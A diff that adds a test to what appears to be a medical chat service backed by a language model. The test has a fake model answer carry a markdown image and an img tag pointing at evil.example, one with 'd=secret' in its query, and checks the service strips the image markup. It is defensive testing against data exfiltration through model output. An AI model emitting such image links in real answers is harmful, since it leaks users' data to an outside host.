@@ -117,6 +117,17 @@ def test_a_red_flag_is_told(client: TestClient) -> None:
     assert client.post(URL, json={"message": message}).json()["red_flags"]
 
 
+def test_an_answer_draws_no_image_of_another_host(client: TestClient, fake: FakeModelServer) -> None:
+    before, fake.handler = fake.handler, lambda _: "Yes. ![](https://evil.example/?d=secret) <img src=//evil.example>"
+    try:
+        words = client.post(URL, json={"message": "Is metformin safe in heart failure?"}).json()["response"]
+    finally:
+        fake.handler = before
+    assert "evil.example" in words
+    assert "![" not in words
+    assert "<img" not in words
+
+
 @pytest.mark.parametrize(
     ("name", "kind", "data"),
     [
